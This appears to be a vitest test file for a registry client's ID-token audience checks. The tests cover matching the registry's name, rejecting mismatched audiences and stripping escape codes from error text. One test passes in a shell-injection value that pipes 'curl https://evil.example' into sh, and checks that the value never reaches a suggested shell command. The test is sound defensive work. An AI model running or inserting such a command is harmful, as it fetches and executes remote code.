import { describe, expect, it } from 'vitest';
import { registryAddress } from '../client/registry-address.ts';
import { faultOf, textOf } from '../testing/faults.ts';
import { audienceFor } from './audience.ts';
import { variableFor } from './own-variable.ts';

const address = registryAddress('https://crates.example.com/team');
const saying = (audience: string) => ({ visibility: 'public' as const, audience, issuers: [] });

describe('whom an ID token is made for', () => {
  it("is the registry's own name", () => {
    expect(audienceFor(address, saying('crates.example.com/team'), undefined)).toBe(
      'crates.example.com/team',
    );
    expect(audienceFor(address, saying('crates.example.com/team'), '')).toBe('crates.example.com/team');
  });

  it.each([
    'sts.amazonaws.com',
    'crates.io',
    'crates.example.com',
    'Crates.example.com/team',
    '',
    'x\u001b[31m\n::y',
  ])('is never what a registry merely asks for: %j', async (audience) => {
    const fault = await faultOf(() => audienceFor(address, saying(audience), undefined));
    expect(fault.kind).toBe('wrong_audience');
    expect(textOf(fault)).toContain('which is not its own name');
    expect(textOf(fault)).not.toContain('\u001b');
  });

  it('is proposed for a shell only where it can do nothing there', async () => {
    const evil = "x'; curl https://evil.example | sh; '";
    expect((await faultOf(() => audienceFor(address, saying(evil), undefined))).remedy).not.toContain('evil');
    const plain = await faultOf(() => audienceFor(address, saying('acme-crates'), undefined));
    expect(plain.remedy).toContain("WAYBILL_AUDIENCE='acme-crates'");
  });

  it('is what the job says, if the registry says the same', async () => {
    expect(audienceFor(address, saying('acme-crates'), 'acme-crates')).toBe('acme-crates');
    const fault = await faultOf(() => audienceFor(address, saying('sts.amazonaws.com'), 'acme-crates'));
    expect(fault.message).toContain('`acme-crates`');
    expect(fault.message).toContain('`sts.amazonaws.com`');
    expect((await faultOf(() => audienceFor(address, saying('crates.example.com/team'), 'x'))).kind).toBe(
      'wrong_audience',
    );
  });

  it('has a variable of its own', () => {
    expect(variableFor('crates.example.com:8443/a-b')).toBe('CRATES_EXAMPLE_COM_8443_A_B_ID_TOKEN');
    expect(variableFor('127.0.0.1')).toBe('_127_0_0_1_ID_TOKEN');
  });
});
